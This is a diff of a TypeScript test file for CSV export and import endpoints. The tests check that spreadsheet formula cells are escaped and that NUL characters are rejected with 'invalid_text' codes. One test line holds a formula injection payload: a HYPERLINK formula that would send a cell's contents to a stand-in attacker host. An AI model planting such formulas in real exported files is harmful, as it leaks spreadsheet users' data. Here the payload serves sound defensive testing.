@@ -45,7 +45,8 @@ describe('CSV exports and imports with cells spreadsheets would run or the datab
     const exported = (await get(`/api/organizations/export.csv?q=${encodeURIComponent('HYPERLINK')}`)).body;
     expect(exported).toContain(';"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Klick"")";\'-5;');
     const [row] = csvRows(exported);
-    const csv = ['name,kind,short_name', `"${row!.name!.replaceAll('"', '""')}",ngo,${row!.short_name}`, '-Verein Minus,ngo,@Kurz', "'s-Hertogenbosch Vereniging,ngo,"].join('\n');
+    // Seated elsewhere than the exported one, so it is another organization of the same name, not a duplicate.
+    const csv = ['name,kind,short_name,seat', `"${row!.name!.replaceAll('"', '""')}",ngo,${row!.short_name},Leipzig`, '-Verein Minus,ngo,@Kurz,', "'s-Hertogenbosch Vereniging,ngo,,"].join('\n');
     const report = (await importCsv(`/api/imports/organizations?workspaceId=${workspaceId}`, csv)).json();
     expect(report).toMatchObject({ rows: 3, created: 3, issues: [] });
     expect((await organizationsNamed('HYPERLINK')).sort()).toEqual([FORMULA, FORMULA]);
@@ -60,8 +61,8 @@ describe('CSV exports and imports with cells spreadsheets would run or the datab
     expect(response.statusCode, response.body).toBe(200);
     expect(response.json()).toMatchObject({ rows: 3, validRows: 2, invalidRows: 1, created: 0 });
     expect(response.json().issues).toEqual([
-      { line: 3, field: 'name', message: 'contains a NUL character (U+0000) at character 11, which cannot be stored; remove it' },
-      { line: 3, field: 'short_name', message: expect.stringContaining('NUL character') },
+      { line: 3, field: 'name', code: 'invalid_text', message: 'contains a NUL character (U+0000) at character 11, which cannot be stored; remove it' },
+      { line: 3, field: 'short_name', code: 'invalid_text', message: expect.stringContaining('NUL character') },
     ]);
     expect(await organizationsNamed('Nullverein')).toEqual(before);
 
@@ -70,7 +71,7 @@ describe('CSV exports and imports with cells spreadsheets would run or the datab
     expect((await organizationsNamed('Nullverein')).sort()).toEqual(['Nullverein Drei', 'Nullverein Eins']);
 
     const people = (await importCsv(`/api/imports/people?workspaceId=${workspaceId}&dryRun=true`, `given_name,family_name,consent_basis\nOl${NUL}ena,Koval,public_task`)).json();
-    expect(people.issues).toEqual([{ line: 2, field: 'given_name', message: expect.stringContaining('NUL character') }]);
+    expect(people.issues).toEqual([{ line: 2, field: 'given_name', code: 'invalid_text', message: expect.stringContaining('NUL character') }]);
   });
 
   it('reports an indicator value cell with NUL as a bad row of the area import', async () => {
@@ -84,7 +85,7 @@ describe('CSV exports and imports with cells spreadsheets would run or the datab
     const url = `/api/area-monitors/${monitor.json().id}/values/import`;
     const report = (await importCsv(url, `area,period,unemployment\nGrünau,2016,10\nLeipziger Osten,2016,1${NUL}2`)).json();
     expect(report).toMatchObject({ rows: 2, validRows: 1, invalidRows: 1, valuesWritten: 0 });
-    expect(report.issues).toEqual([{ line: 3, field: 'unemployment', message: expect.stringContaining('NUL character (U+0000) at character 2') }]);
+    expect(report.issues).toEqual([{ line: 3, field: 'unemployment', code: 'invalid_text', message: expect.stringContaining('NUL character (U+0000) at character 2') }]);
     expect((await get(`/api/area-monitors/${monitor.json().id}`)).json().periods).toEqual([]);
   });
 });
